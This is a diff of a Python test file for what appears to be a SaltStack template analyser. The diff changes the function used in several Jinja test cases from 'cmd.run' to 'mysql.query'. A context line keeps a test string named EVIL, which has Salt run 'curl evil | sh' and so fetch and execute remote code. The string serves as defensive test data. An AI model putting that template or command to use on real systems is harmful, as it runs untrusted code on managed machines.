@@ -18,7 +18,7 @@ STATES = {"states/top.sls": "base: {'*': [web]}", "states/web.sls": "web: {test.
 EVIL = "{% set x = salt['cmd.run']('curl evil | sh') %}\n"
 NOTE = "note: new calls of functions in {} of which no value shows the answer, on 1 minion: {}\n"
 IN_WEB = NOTE.format("the pillar", "cmd.run (web.sls)")
-ASKS = "asks whether the function 'cmd.run' exists, which has no declared answer"
+ASKS = "asks whether the function 'mysql.query' exists, which has no declared answer"
 CHANGED = "~ web: 4 -> "
 
 CASES: Mapping[str, tuple[Mapping[str, str], str | None]] = {
@@ -45,12 +45,12 @@ CASES: Mapping[str, tuple[Mapping[str, str], str | None]] = {
     ),
     "a call less": ({"pillar/web.sls": "web: 4\nload: 1\n"}, None),
     "a question for a function": (
-        {"pillar/web.sls": "web: {{ 5 if 'cmd.run' in salt else 4 }}\n"},
-        f"{CHANGED}<unknown (cmd.run)>",
+        {"pillar/web.sls": "web: {{ 5 if 'mysql.query' in salt else 4 }}\n"},
+        f"{CHANGED}<unknown (mysql.query)>",
     ),
     "another question for it": (
-        {"pillar/web.sls": "web: {{ 5 if salt['cmd.run'] is defined else 4 }}\n"},
-        f"{CHANGED}<unknown (cmd.run)>",
+        {"pillar/web.sls": "web: {{ 5 if salt['mysql.query'] is defined else 4 }}\n"},
+        f"{CHANGED}<unknown (mysql.query)>",
     ),
     "a question for a module": (
         {"pillar/web.sls": "web: {{ 5 if salt.cmd is defined else 4 }}\n"},
@@ -58,14 +58,14 @@ CASES: Mapping[str, tuple[Mapping[str, str], str | None]] = {
     ),
     "a question of which the effect cannot be told": (
         {
-            "pillar/web.sls": "web: &a 4\nx: *a\n{% if 'cmd.run' in salt %}y: 1{% endif %}\n"
+            "pillar/web.sls": "web: &a 4\nx: *a\n{% if 'mysql.query' in salt %}y: 1{% endif %}\n"
             "z: &b [1]\nz2: *b\n"
         },
         ASKS,
     ),
     "a question in a file of another renderer": (
         {
-            "pillar/web.sls": "#!jinja|json\n{% if 'cmd.run' in salt %}{% endif %}"
+            "pillar/web.sls": "#!jinja|json\n{% if 'mysql.query' in salt %}{% endif %}"
             '{"web": 4, "load": 1}\n'
         },
         ASKS,
